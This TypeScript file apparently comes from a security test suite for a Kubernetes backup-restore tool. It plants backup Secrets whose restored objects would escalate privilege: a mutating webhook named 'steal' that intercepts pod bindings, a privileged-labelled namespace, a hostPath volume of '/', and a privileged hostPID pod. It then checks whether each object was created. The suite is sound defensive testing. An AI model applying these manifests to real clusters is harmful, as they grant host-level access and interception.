import { revertAll } from './acts.ts';
import type { Attack, Rule, Scene } from './attack.ts';
import { type Planted, resourceBackup } from './planted.ts';

const secrets: Rule = { apiGroups: [''], resources: ['secrets'], verbs: ['create'] };

/** A backup Secret that holds an object which lives in no namespace, or makes whoever wrote it more than he is. */
function fromBackup(what: string, resource: string, object: (scene: Scene) => Planted): Attack {
  return {
    name: `${what} out of a backup Secret`,
    rights: { here: [secrets] },
    plant: scene => scene.plant(resourceBackup(object(scene))),
    act: revertAll,
    async gained(scene) {
      const { name } = object(scene).metadata;
      return (await scene.look(resource, String(name))) && `${resource}/${name} was created`;
    },
    async tidy(scene) {
      const { name } = object(scene).metadata;
      await scene.admin(['delete', resource, String(name), '-n', scene.id, '--ignore-not-found', '--wait=false']);
    },
  };
}

export const attacks: Attack[] = [
  fromBackup('a webhook configuration with a namespace', 'mutatingwebhookconfigurations', ({ id }) => ({
    apiVersion: 'admissionregistration.k8s.io/v1',
    kind: 'MutatingWebhookConfiguration',
    metadata: { name: id, namespace: id },
    webhooks: [
      {
        name: 'steal.example.com',
        clientConfig: { url: 'https://127.0.0.1:1/steal' },
        rules: [{ apiGroups: [''], apiVersions: ['v1'], operations: ['CREATE'], resources: ['bindings'] }],
        sideEffects: 'None',
        failurePolicy: 'Ignore',
        admissionReviewVersions: ['v1'],
      },
    ],
  })),
  fromBackup('a namespace', 'namespaces', ({ id }) => ({
    apiVersion: 'v1',
    kind: 'Namespace',
    metadata: { name: `${id}-more`, namespace: id, labels: { 'pod-security.kubernetes.io/enforce': 'privileged' } },
  })),
  fromBackup('a persistent volume of the host', 'persistentvolumes', ({ id }) => ({
    apiVersion: 'v1',
    kind: 'PersistentVolume',
    metadata: { name: id, namespace: id },
    spec: {
      capacity: { storage: '1Gi' },
      accessModes: ['ReadWriteOnce'],
      storageClassName: 'none',
      hostPath: { path: '/' },
    },
  })),
  fromBackup('a privileged pod', 'pods', ({ id }) => ({
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name: 'taken', namespace: id },
    spec: {
      hostPID: true,
      containers: [{ name: 'taken', image: 'registry.k8s.io/pause:3.10', securityContext: { privileged: true } }],
    },
  })),
];
